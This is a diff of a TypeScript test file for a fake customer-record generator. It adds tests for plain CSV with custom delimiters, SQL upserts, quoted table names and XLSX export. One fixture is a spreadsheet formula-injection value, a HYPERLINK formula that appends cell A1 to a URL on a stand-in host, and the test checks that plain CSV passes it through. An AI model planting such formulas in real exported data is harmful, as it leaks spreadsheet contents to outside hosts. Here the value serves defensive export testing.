@@ -1,16 +1,17 @@
+import { readXlsx } from 'hucre/xlsx'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { loadSpec } from '../spec/spec.ts'
 import type { Spec } from '../spec/spec.ts'
 import type { CustomerRecord } from '../spec/types.ts'
 import { createGenerator } from './create-generator.ts'
 import { testDatabase } from './postgres-under-test.ts'
-import { formatNames, formatOfFile, formatRecords, recordFormat } from './record-format.ts'
-import type { FormatName } from './record-format.ts'
+import { formatNames, formatOfFile, formatRecords, recordFormat, writtenRecords } from './record-format.ts'
+import type { FormatOptions, TextFormatName } from './record-format.ts'
 
 const spec = loadSpec()
-const text = async (name: FormatName, records: CustomerRecord[], of: Spec = spec) => {
+const text = async (name: TextFormatName, records: CustomerRecord[], of: Spec = spec, options: FormatOptions = {}) => {
   let whole = ''
-  for await (const chunk of formatRecords(recordFormat(name, of), records)) whole += chunk
+  for await (const chunk of formatRecords(recordFormat(name, of, options), records)) whole += chunk
   return whole
 }
 const { record } = await createGenerator({ spec, seed: 42 })
@@ -81,6 +82,17 @@ describe('CSV', () => {
     },
   )
 
+  it('has neither guard nor mark where it is plain, as programs want it, and parts its cells by what is asked for', async () => {
+    const plain = await text('csv', [awkward], spec, { csv: 'plain', fields: ['first_name', 'phone', 'is_active'] })
+    expect(plain).toBe(
+      `first_name,phone,is_active\r\n"=HYPERLINK(""https://example.com/?""&A1,""x"")",${awkward.phone},true\r\n`,
+    )
+    const options = { csv: 'plain', delimiter: ';', head: false, fields: ['first_name', 'reference'] } as const
+    expect(await text('csv', [{ ...awkward, first_name: 'a;b', reference: 'c,d' }], spec, options)).toBe(
+      '"a;b";c,d\r\n',
+    )
+  })
+
   it('keeps a harmless name as it is', async () => {
     const [, [, cell] = []] = rows(await text('csv', [{ ...awkward, first_name: "N'Golo-Kanté" }]))
     expect(cell).toBe("N'Golo-Kanté")
@@ -149,10 +161,56 @@ describe('SQL', () => {
     ).toThrow(/customers_email/)
   })
 
+  it.runIf(database)('replaces, where it is told to, those that are there, and leaves all others', async () => {
+    const [first, second] = customers as [CustomerRecord, CustomerRecord]
+    const upsert = { table: 'upserted', upsert: true }
+    database?.run(await text('sql', [first], spec, upsert))
+    database?.run(await text('sql', [{ ...first, first_name: 'Ada' }, second], spec, upsert))
+    const names = database?.run('SELECT first_name FROM upserted ORDER BY email')
+    expect(names?.trim().split('\n').toSorted()).toEqual(['Ada', String(second.first_name)].toSorted())
+    const fields = Object.keys(second).filter((name) => name !== 'phone')
+    database?.run(
+      await text('sql', [{ ...second, first_name: 'Kofi', phone: 'left out' }], spec, { ...upsert, fields }),
+    )
+    expect(database?.run(`SELECT phone FROM upserted WHERE first_name = 'Kofi'`).trim()).toBe(second.phone)
+  })
+
   it.runIf(database)('leaves the database as it was when the table is there already', async () => {
     const sql = await text('sql', customers.slice(0, 3))
     expect(() => database?.run(sql)).toThrow(/already exists/)
     expect(database?.run('SELECT count(*) FROM customers').trim()).toBe(String(customers.length + 1))
+  })
+})
+
+describe('SQL for a table that is named', () => {
+  it('quotes its name, and that of its schema', async () => {
+    const sql = await text('sql', customers.slice(0, 2), spec, { table: 'crm.Our "People' })
+    expect(sql).toContain('CREATE TABLE "crm"."Our ""People" (\n')
+    expect(sql).toContain('INSERT INTO "crm"."Our ""People" ("id", ')
+    expect(sql).toContain('CREATE UNIQUE INDEX "Our ""People_email" ON "crm"."Our ""People" (lower(email));')
+  })
+})
+
+describe('a spreadsheet', () => {
+  it('has types, runs nothing, and keeps the names of its columns in sight', async () => {
+    const chunks: Uint8Array[] = []
+    const made = { ...awkward, metadata: 'x'.repeat(40_000), last_name: 'bell\u0007' }
+    for await (const chunk of writtenRecords('xlsx', spec, {}, [made, customers[2]!])) chunks.push(chunk as Uint8Array)
+    const { sheets } = await readXlsx(Buffer.concat(chunks))
+    const [sheet] = sheets
+    expect(sheet?.freezePane).toMatchObject({ rows: 1 })
+    const [head = [], row = [], other = []] = sheet!.rows
+    const cell = (name: string) => row[head.indexOf(name)]
+    expect(head).toHaveLength(14)
+    expect([cell('first_name'), cell('last_name'), cell('phone'), cell('is_active')]).toEqual([
+      made.first_name,
+      'bell\uFFFD',
+      made.phone,
+      made.is_active,
+    ])
+    expect(cell('created_at')).toEqual(new Date(made.created_at))
+    expect(cell('metadata')).toHaveLength(32_767)
+    expect(other[head.indexOf('email')]).toBe(customers[2]!.email)
   })
 })
 
@@ -166,5 +224,5 @@ describe('the format of a file', () => {
   ])('%s is %s', (path, name) => {
     expect(formatOfFile(path)).toBe(name)
   })
-  it('has a name for each that there is', () => expect(formatNames).toEqual(['json', 'ndjson', 'csv', 'sql']))
+  it('has a name for each that there is', () => expect(formatNames).toEqual(['json', 'ndjson', 'csv', 'sql', 'xlsx']))
 })
